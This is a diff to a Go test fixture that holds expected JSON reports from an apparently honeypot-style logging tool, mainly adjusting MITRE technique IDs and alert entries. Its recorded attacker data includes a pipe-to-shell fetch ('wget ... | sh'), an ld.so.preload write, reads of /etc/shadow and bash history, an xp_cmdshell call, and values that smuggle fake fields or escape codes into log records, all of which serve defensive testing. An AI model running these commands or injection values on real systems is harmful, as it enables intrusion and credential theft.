@@ -31,7 +31,7 @@ var shown = map[string]string{
 			{"count": 1, "first": "2026-01-01T23:30:24.937891Z", "from": "decky-01", "to": "decky-08"}
 		],
 		"traversal_path": "decky-05 → decky-07 → decky-01 → decky-08",
-		"threat.technique.id": ["T1059.004", "T1110"],
+		"threat.technique.id": ["T1110", "T1595"],
 		"risk.level": "Moderate",
 		"threat.indicator.description": "185.242.33.16, mixed: 17 events (1 claimed) on 3 services of 4 decoys, 1 login attempt, 4 commands"
 	}`,
@@ -80,23 +80,7 @@ var shown = map[string]string{
 		"fingerprint.hassh": ["472b5de333ad665af5cbf10ff892c4df", "4c94058d5e9e31659879f79fd5b46084"],
 		"fingerprint.ssh_client": ["SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", "SSH-2.0-paramiko_5.1.0"],
 		"session_longest_s": 1.159,
-		"threat.technique.id": [
-			"T1016",
-			"T1027",
-			"T1033",
-			"T1059.004",
-			"T1070.003",
-			"T1078",
-			"T1082",
-			"T1083",
-			"T1087.001",
-			"T1098",
-			"T1105",
-			"T1110",
-			"T1140",
-			"T1552.003",
-			"T1574.006"
-		],
+		"threat.technique.id": ["T1016", "T1027", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1083", "T1087.001", "T1098", "T1105", "T1110", "T1140", "T1552.003", "T1574.006"],
 		"risk.level": "Critical",
 		"threat.indicator.description": "127.0.0.2, interactive: 87 events on 1 service of 1 decoy, 11 login attempts (9 successful), 15 commands, 2 files"
 	}`,
@@ -127,7 +111,7 @@ var shown = map[string]string{
 			"opensesame"
 		],
 		"credential.pair": [":foobared"],
-		"threat.technique.id": ["T1046", "T1053.003", "T1059.004", "T1082", "T1105", "T1110", "T1129", "T1485"],
+		"threat.technique.id": ["T1046", "T1053.003", "T1082", "T1105", "T1110", "T1129", "T1485"],
 		"risk.level": "High",
 		"threat.indicator.description": "127.0.0.8, scanning: 17 events on 3 services of 1 decoy, 2 login attempts, 13 commands"
 	}`,
@@ -145,7 +129,8 @@ var shown = map[string]string{
 		"alerts": [
 			{"category": "Attempted Administrator Privilege Gain", "count": 1, "first_seen": "2026-11-24T00:00:07.487403Z", "last_seen": "2026-11-24T00:00:07.487403Z", "severity": 1, "signature": "DOSSIER EXPLOIT Log4j lookup in a header (CVE-2021-44228)"},
 			{"category": "Potentially Bad Traffic", "count": 2, "first_seen": "2026-11-24T00:00:07.508143Z", "last_seen": "2026-11-24T00:00:07.748753Z", "severity": 2, "signature": "DOSSIER ATTACK_RESPONSE id check returned root"},
-			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:09.480445Z", "last_seen": "2026-11-24T00:00:09.480445Z", "severity": 1, "signature": "DOSSIER PHISH executable attachment"}
+			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:09.480445Z", "last_seen": "2026-11-24T00:00:09.480445Z", "severity": 1, "signature": "DOSSIER PHISH executable attachment"},
+			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:21.477986Z", "last_seen": "2026-11-24T00:00:21.477986Z", "severity": 1, "side": "payload_host", "signature": "DOSSIER MALWARE decoy fetches an executable"}
 		],
 		"artifact.sha256": ["6896d9ea3f73a4434f5832bc65714e7d066f177373f36f34dc8a6f735daa41b1", "bfa20a876f14a54cbf5e78a6679f4f3c6bce0641d1d4cd2af02daa167a987bc5"],
 		"fingerprint.hassh": ["472b5de333ad665af5cbf10ff892c4df"],
@@ -159,7 +144,7 @@ var shown = map[string]string{
 			"t12i0206h2_b06afd972a5c_a44c6288192a",
 			"t13i3111h2_e8f1e7e78f70_b26ce05bbdd6"
 		],
-		"threat.technique.id": ["T1046", "T1059", "T1078", "T1105", "T1110", "T1190", "T1566.001"],
+		"threat.technique.id": ["T1046", "T1059", "T1078", "T1105", "T1110", "T1190", "T1566.001", "T1595.003"],
 		"risk.level": "High",
 		"threat.indicator.description": "10.99.0.1, scanning: 101 events (23 claimed) on 9 services of 2 decoys, 2 login attempts (1 successful), 3 commands, 2 files"
 	}`,
@@ -176,7 +161,7 @@ var shown = map[string]string{
 		"spoofable": false,
 		"command.line": ["cat /proc/cpuinfo | grep name | wc -l", "uname -a; id"],
 		"login_successes": 1,
-		"threat.technique.id": ["T1033", "T1059.004", "T1078", "T1082", "T1110"],
+		"threat.technique.id": ["T1033", "T1046", "T1059.004", "T1078", "T1082", "T1110"],
 		"risk.level": "High",
 		"threat.indicator.description": "127.0.0.41, mixed: 9 events (3 claimed) on 1 service of 2 decoys, 3 login attempts (1 successful), 2 commands"
 	}`,
@@ -193,7 +178,7 @@ var shown = map[string]string{
 		"spoofable": false,
 		"command.line": ["EXEC master..xp_cmdshell 'whoami'; -- [relay@55555 src_ip=\"6.6.6.6\"]"],
 		"credential.pair": ["sa:123456", "sa:P@ssw0rd", "sa\\u202e:x\",\"src_ip\":\"6.6.6.6"],
-		"threat.technique.id": ["T1110", "T1505.001"],
+		"threat.technique.id": ["T1033", "T1046", "T1059.003", "T1110", "T1505.001"],
 		"risk.level": "Moderate",
 		"threat.indicator.description": "127.0.0.43, interactive: 7 events on 1 service of 1 decoy, 3 login attempts, 1 command"
 	}`,
@@ -214,7 +199,7 @@ var shown = map[string]string{
 			{"count": 1, "first_seen": "2026-11-24T00:22:30.252652Z", "last_seen": "2026-11-24T00:22:30.252652Z", "outcome": "failure", "principal": "ftpuser", "secret": "p\",\"source_ip\":\"6.6.6.6", "secret_kind": "plaintext", "secret_sha256": "6e249111afb3e25307b6b96f9386c42d03081c8a968e6bfcc8798ff3de1c95b8", "service": "ftp"},
 			{"count": 1, "first_seen": "2026-11-24T00:22:30.252652Z", "last_seen": "2026-11-24T00:22:30.252652Z", "outcome": "failure", "principal": "root", "secret": "toor\\x1b[31m", "secret_kind": "plaintext", "secret_sha256": "caada0590306f8fba8a5b50b8c39eef8349b8b8725de946dbe7da799b948ad41", "service": "ftp"}
 		],
-		"threat.technique.id": ["T1110"],
+		"threat.technique.id": ["T1046", "T1110"],
 		"risk.level": "Unknown",
 		"threat.indicator.description": "127.0.0.31, unknown: 1 event on 1 service of 1 decoy, 3 login attempts"
 	}`,
@@ -238,7 +223,7 @@ var shown = map[string]string{
 		],
 		"credential.pair": ["root:123456", "root:Smoker666", "root:nope", "root:toor"],
 		"fingerprint.ssh_client": ["SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", "SSH-2.0-paramiko_5.1.0"],
-		"threat.technique.id": ["T1033", "T1059.004", "T1082", "T1083", "T1105", "T1110"],
+		"threat.technique.id": ["T1033", "T1046", "T1059.004", "T1078", "T1082", "T1105", "T1110"],
 		"risk.level": "Moderate",
 		"threat.indicator.description": "127.0.0.41, interactive: 10 events on 1 service of 1 decoy, 4 login attempts, 5 commands"
 	}`,
@@ -256,7 +241,7 @@ var shown = map[string]string{
 		"command.line": ["uname -a", "cat /proc/cpuinfo | grep name | wc -l"],
 		"credential.pair": ["admin:admin", "root:123456", "root:root", "root:xc3511", "test:test"],
 		"fingerprint.hassh": ["4c94058d5e9e31659879f79fd5b46084"],
-		"threat.technique.id": ["T1059.004", "T1078", "T1082", "T1110"],
+		"threat.technique.id": ["T1046", "T1059.004", "T1078", "T1082", "T1110"],
 		"risk.level": "High",
 		"threat.indicator.description": "127.0.0.2, mixed: 33 events on 1 service of 1 decoy, 7 login attempts (3 successful), 4 commands"
 	}`,
@@ -283,7 +268,7 @@ var shown = map[string]string{
 			"echo für 日本 \\u202eabc",
 			"echo wrong | sudo -S -k cat /etc/shadow"
 		],
-		"threat.technique.id": ["T1003.008", "T1033", "T1059.004", "T1078", "T1082", "T1087.001", "T1105", "T1110", "T1548.003", "T1564.001"],
+		"threat.technique.id": ["T1003.008", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1087.001", "T1105", "T1548.003", "T1564.001"],
 		"risk.level": "High",
 		"threat.indicator.description": "127.0.0.25, interactive: 23 events on 1 service of 1 decoy, 1 login attempt (1 successful), 20 commands"
 	}`,
@@ -302,12 +287,9 @@ var shown = map[string]string{
 		"login_attempts": 4,
 		"command_count": 0,
 		"spoofable": false,
-		"threat.technique.id": [
-			"T1078",
-			"T1110"
-		],
+		"threat.technique.id": ["T1046", "T1078"],
 		"risk.level": "Moderate",
-		"threat.indicator.description": "127.0.0.19, mixed: 29 events on 1 service of 1 decoy, 4 login attempts (4 successful)",
+		"threat.indicator.description": "127.0.0.19, interactive: 29 events on 1 service of 1 decoy, 4 login attempts (4 successful)",
 		"login_successes": 4
 	}`,
 	"json-syslog": `{
@@ -346,10 +328,7 @@ var shown = map[string]string{
 			"cat /proc/mounts; ls -la /dev/shm; wget -qO- http://127.0.0.1:18080/x.sh | sh",
 			"#!/bin/sh\\x0a# harmless sample: what a dropper looks like\\x0acd /tmp || cd /var/run\\x0aecho started",
 			"echo 'evil' > /etc/ld.so.preload",
-			"cat /root/.bash_history",
-			"READ boot.cfg",
-			"WRITE ../../evil\\x1b[0m",
-			"READ r.bin"
+			"cat /root/.bash_history"
 		],
 		"credential.pair": [
 			"admin:admin",
@@ -368,26 +347,9 @@ var shown = map[string]string{
 			"472b5de333ad665af5cbf10ff892c4df",
 			"4c94058d5e9e31659879f79fd5b46084"
 		],
-		"threat.technique.id": [
-			"T1016",
-			"T1027",
-			"T1033",
-			"T1046",
-			"T1059.004",
-			"T1070.003",
-			"T1078",
-			"T1082",
-			"T1083",
-			"T1087.001",
-			"T1098",
-			"T1105",
-			"T1110",
-			"T1140",
-			"T1552.003",
-			"T1574.006"
-		],
+		"threat.technique.id": ["T1016", "T1027", "T1033", "T1046", "T1059.004", "T1078", "T1082", "T1083", "T1087.001", "T1098", "T1105", "T1110", "T1140", "T1552.003", "T1574.006"],
 		"risk.level": "Critical",
-		"threat.indicator.description": "127.0.0.2, slow_scan: 96 events on 3 services of 2 decoys, 14 login attempts (9 successful), 18 commands, 2 files"
+		"threat.indicator.description": "127.0.0.2, slow_scan: 96 events (3 claimed) on 3 services of 2 decoys, 14 login attempts (9 successful), 15 commands, 2 files"
 	}`,
 }
 
